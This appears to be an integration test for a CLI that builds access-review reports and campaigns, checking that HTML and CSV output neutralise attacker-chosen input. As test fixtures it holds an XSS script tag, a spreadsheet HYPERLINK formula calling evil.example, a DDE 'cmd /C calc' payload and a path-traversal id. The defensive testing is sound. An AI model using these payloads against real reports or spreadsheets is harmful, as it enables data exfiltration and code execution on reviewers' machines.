/** `nestgate review` as a process, against the broker's API on a real store. What a report shows was chosen by attackers. */
import { expect } from 'chai'
import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, it } from 'mocha'
import { reportSchema } from '../../shared/access-review-wire.ts'
import { startApi } from '../support/api-server.ts'
import type { ApiServer } from '../support/api-server.ts'
import { intent } from '../support/entries.ts'
import { policyOf } from '../support/policies.ts'

const MAIN = new URL('../../cli/main.ts', import.meta.url).pathname
const SINCE = '2020-01-01'
const EVIL = '"><script>alert(1)</script>\u202e\u001b[2J&lt;'
const FORMULA = '=HYPERLINK("http://evil.example/"&A1,"click")'
const RULES = `
  - id: look-around
    match: { verbs: [get, list], resources: [pods] }
    effect: allow
  - id: scan
    match: { agents: [scanner], verbs: [get], resources: [secrets] }
    effect: allow
`
/** What is revoked. */
const GONE = / {2}- id: scan[^]*/

interface Run {
  readonly code: number | null
  readonly out: string
  readonly err: string
}

describe('nestgate review', () => {
  let api: ApiServer
  let folder: string
  let policy = policyOf(RULES)
  before(async () => {
    folder = mkdtempSync(join(tmpdir(), 'nestgate-review-'))
    api = await startApi(
      undefined,
      {},
      {
        accessReview: {
          policy: () => policy,
          scopes: { get: () => undefined },
          acceptVerdicts: ['exclusive'],
          registrations: [{ name: 'scanner', owners: ['eve'] }],
        },
        policy: { digest: policyOf(RULES.replace(GONE, '')).digest },
      },
    )
    const credential = { mode: 'issuer', user: 'x' } as const
    await api.store.append([
      intent({ agent: EVIL, chain: [], credential, request: { namespace: EVIL, resource: EVIL } }),
      intent({ agent: FORMULA, chain: [], credential, request: { namespace: '+1', name: '@x' } }),
      intent({ agent: 'a\r\nb,"c', chain: [], credential, request: { resource: '-2\t3' } }),
      intent({
        ...{ requestId: 'held-1', agent: 'scanner', chain: [] },
        decision: { effect: 'hold', rules: ['scan'] },
      }),
      {
        ...{
          kind: 'approval',
          requestId: 'held-1',
          cluster: 'main',
          from: 'PENDING',
          to: 'DENIED',
        },
        ...{ actor: 'alice', reason: `=cmd|' /C calc'!A0 ${EVIL}` },
        review: { verdict: 'deny', groups: [] },
      },
    ])
  })
  after(async () => {
    await api.close()
    rmSync(folder, { recursive: true })
  })

  const as = async (person: string, ...args: string[]): Promise<Run> => {
    const env = { NESTGATE_BROKER_URL: api.url, NESTGATE_TOKEN: `token-${person}` }
    const child = spawn(process.execPath, [MAIN, 'review', ...args], {
      env,
      stdio: ['ignore', 'pipe', 'pipe'],
    })
    let [out, err] = ['', '']
    child.stdout.setEncoding('utf8').on('data', (text: string) => (out += text))
    child.stderr.setEncoding('utf8').on('data', (text: string) => (err += text))
    const [code] = (await once(child, 'close')) as [number | null]
    return { code, out, err }
  }
  const report = async (format: string, ...more: string[]): Promise<string> => {
    const { code, out, err } = await as(
      'carol',
      'report',
      '--since',
      SINCE,
      '--format',
      format,
      ...more,
    )
    expect(err).to.equal('')
    expect(code).to.equal(0)
    return out
  }
  // what a terminal, or a reader's eye, would act on
  const hostile = /[\p{Cc}\p{Cf}]/u

  it('makes a page in which nothing that was chosen by others is HTML', async () => {
    const page = await report('html')
    expect(page).to.match(/^<!doctype html>/)
    expect(page).to.contain(
      '&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\\u{202e}\\x1b[2J&amp;lt;',
    )
    expect(page.replaceAll('\n', '')).to.not.match(hostile)
    // every tag and attribute is one of ours
    const tags = [...page.matchAll(/<\/?([a-z0-9!]+)/g)].map(([, tag]) => tag)
    expect([...new Set(tags)].sort()).to.deep.equal([
      '!doctype',
      'a',
      'body',
      'caption',
      'div',
      'h1',
      'h2',
      'h3',
      'head',
      'header',
      'html',
      'li',
      'main',
      'meta',
      'nav',
      'ol',
      'p',
      'pre',
      'section',
      'style',
      'table',
      'tbody',
      'td',
      'th',
      'thead',
      'title',
      'tr',
    ])
    expect(page).to.not.match(/<[^>]*\s(on[a-z]+|src|action|formaction)=/i)
  })

  it('makes a page that needs nothing else, that prints, and that can be found one’s way in', async () => {
    const page = await report('html')
    const tags = (page.match(/<[^>]+>/g) ?? []).join('')
    expect(tags).to.not.match(/https?:|<link|<img|<script/)
    expect(page).to.not.match(/url\(|@import/)
    expect(page).to.contain("default-src 'none'; style-src 'unsafe-inline'")
    expect(page).to.contain('@media print').and.contain('<html lang="en">')
    const links = [...page.matchAll(/href="#([^"]+)"/g)].map(([, id]) => id)
    expect(links).to.include.members(['summary', 'unused', 'held', 'break-glass', 'denied', 'p1'])
    for (const id of links) expect(page.split(`id="${id ?? ''}"`), id).to.have.length(2)
    expect(page.indexOf('id="summary"')).to.be.lessThan(page.indexOf('id="principals"'))
    expect(page)
      .to.match(/<caption>/)
      .and.match(/<th scope="col">/)
      .and.match(/<th scope="row">/)
  })

  it('makes CSV that a spreadsheet takes for no formula, one record a line', async () => {
    const csv = await report('csv')
    const lines = csv.trimEnd().split('\r\n')
    expect(lines.join('')).to.not.match(hostile)
    const records = lines.map(readRecord)
    for (const record of records) {
      expect(record).to.have.length(records[0]?.length ?? 0)
      for (const cell of record) expect(cell).to.not.match(/^\s*[=+\-@]/)
    }
    const cells = records.flat()
    expect(cells).to.include(`'${FORMULA}`).and.include("'+1").and.include("'-2\\x093")
    expect(cells).to.include('a\\x0d\\x0ab,"c')
    expect(records.map(([kind]) => kind)).to.include.members([
      'population',
      'principal',
      'access',
      'use',
      'held',
    ])
  })

  it('lists in CSV the rules that nobody used', async () => {
    const csv = await report('csv', '--agent', 'nobody')
    const records = csv.trimEnd().split('\r\n').map(readRecord)
    const unused = records.filter(([kind]) => kind === 'unusedRule')
    expect(unused.map((record) => record[10])).to.deep.equal(['look-around', 'scan'])
  })

  it('prints the data itself as JSON, and a short text', async () => {
    const made = reportSchema.parse(JSON.parse(await report('json')))
    expect(made.principals.map(({ name }) => name)).to.include(EVIL)
    expect(made.summary.requests).to.include({ done: 3, held: 1 })
    const text = await report('text')
    expect(text.replaceAll('\n', '')).to.not.match(hostile)
    expect(text).to.match(/^Period: +2020-01-01T00:00:00.000Z to /)
  })

  it('writes to a file that only its owner can read', async () => {
    const file = join(folder, 'report.html')
    expect(await report('html', '--file', file)).to.equal(`written to ${file}\n`)
    expect(statSync(file).mode & 0o777).to.equal(0o600)
    expect(readFileSync(file, 'utf8')).to.match(/<\/html>\n$/)
  })

  it('says that a scope has nobody', async () => {
    expect(await report('text', '--agent', 'nobody')).to.contain('Nobody in this scope')
    expect(await report('html', '--agent', 'nobody')).to.contain('Nobody in this scope')
  })

  const wrong: readonly [string, string[]][] = [
    ['no period', ['report']],
    ['a period that is none', ['report', '--since', 'yesterday']],
    ['an unknown form', ['report', '--since', SINCE, '--format', 'pdf']],
    ['an id that is a path', ['campaign', 'show', '../approvals']],
    ['no verdict', ['campaign', 'decide', '0', '1', '--reason', 'x']],
    ['no reviewer', ['campaign', 'open', '--since', SINCE, '--title', 'x']],
    [
      'assignments that are none',
      ['campaign', 'open', '--since', SINCE, '--title', 'x', '--reviewer', 'a', '--assign', MAIN],
    ],
  ]
  for (const [what, args] of wrong) {
    it(`is not called with ${what}`, async () => {
      const { code, out } = await as('carol', ...args)
      expect({ code, out }).to.deep.equal({ code: 2, out: '' })
    })
  }

  it('takes a campaign from its opening to its report', async () => {
    const assign = join(folder, 'assign.yaml')
    writeFileSync(assign, '- { agent: "=HYPER*", reviewers: [bob] }\n')
    const opened = await as(
      'carol',
      'campaign',
      'open',
      '--since',
      SINCE,
      '--title',
      EVIL,
      '--reviewer',
      'alice',
      '--assign',
      assign,
      '--output',
      'json',
    )
    expect(opened.err).to.equal('')
    const { id } = JSON.parse(opened.out) as { id: string }
    const shown = await as('alice', 'campaign', 'show', id, '--mine', '--output', 'json')
    const { items } = JSON.parse(shown.out) as {
      items: { id: string; principal: { name: string }; access: { rule: string } }[]
    }
    // one for each agent, and one more for the scanner
    expect(items.map(({ principal }) => principal.name)).to.not.include(FORMULA)
    expect(items).to.have.length(4)
    expect((await as('alice', 'campaign', 'list')).out)
      .to.contain(id)
      .and.contain('0 of 5')

    const scan = items.find(({ access }) => access.rule === 'scan')?.id ?? ''
    const decide = (who: string, item: string, verdict: string, ...more: string[]): Promise<Run> =>
      as(
        who,
        'campaign',
        'decide',
        id,
        item,
        '--verdict',
        verdict,
        '--reason',
        `because ${EVIL}`,
        ...more,
      )
    expect((await decide('bob', scan, 'certify')).err).to.contain('reviewer_not_assigned')
    expect((await decide('alice', scan, 'revoke')).out).to.match(
      /revoked, to be carried out: scan of agent scanner/,
    )
    expect((await decide('alice', scan, 'certify')).err).to.contain('campaign_item_decided')
    for (const item of items.filter((one) => one.id !== scan))
      expect((await decide('alice', item.id, 'certify')).code).to.equal(0)
    const sign = ['campaign', 'sign-off', id, '--reason', 'all looked at']
    expect((await as('carol', ...sign)).err).to.contain('1 of 5 are not decided')
    const last = (await as('bob', 'campaign', 'show', id, '--mine', '--output', 'json')).out
    const [bobs] = (JSON.parse(last) as { items: { id: string }[] }).items
    const end = new Date(Date.now() + 7 * 24 * 3600 * 1000).toISOString()
    expect((await decide('bob', bobs?.id ?? '', 'exception', '--expires', end)).out).to.contain(
      'exception until',
    )

    const before = policy
    policy = policyOf(RULES.replace(GONE, ''))
    const remediated = await as('carol', 'campaign', 'remediated', id, scan)
    policy = before
    expect(remediated.out).to.contain('revoked, rule gone')
    expect((await as('carol', ...sign)).out).to.match(/State: +SIGNED_OFF/)

    const page = (await as('carol', 'campaign', 'report', id, '--format', 'html')).out
    expect(page.replaceAll('\n', '')).to.not.match(hostile)
    expect(page).to.not.contain('<script')
    for (const text of [
      'Signed off',
      'all looked at',
      'revoked, rule gone',
      'exception until',
      'because &quot;',
      policy.digest,
    ])
      expect(page).to.contain(text)
    const csv = (await as('carol', 'campaign', 'report', id, '--format', 'csv')).out
    const records = csv.trimEnd().split('\r\n').map(readRecord)
    expect(records).to.have.length(6)
    for (const cell of records.flat()) expect(cell).to.not.match(/^\s*[=+\-@]/)
    const data = JSON.parse(
      (await as('carol', 'campaign', 'report', id, '--format', 'json')).out,
    ) as { state: string }
    expect(data).to.include({ state: 'SIGNED_OFF' }).and.not.have.property('problem')

    // somebody changes an item in the database
    const key = `${id}/${scan}`
    const record = await api.store.record('campaign_item', key)
    const body = { ...(record?.body as object), reviewers: ['mallory'] }
    await api.store.put([{ kind: 'campaign_item', id: key, body }], [])
    const forged = await as('carol', 'campaign', 'report', id)
    expect(forged.code).to.equal(1)
    expect(forged.out).to.contain('their digest is another one')
  }).timeout(60_000)
})

/** One record of CSV (RFC 4180). */
function readRecord(line: string): string[] {
  return [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,"]*))(?=,|$)/g)].map(
    ([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '',
  )
}
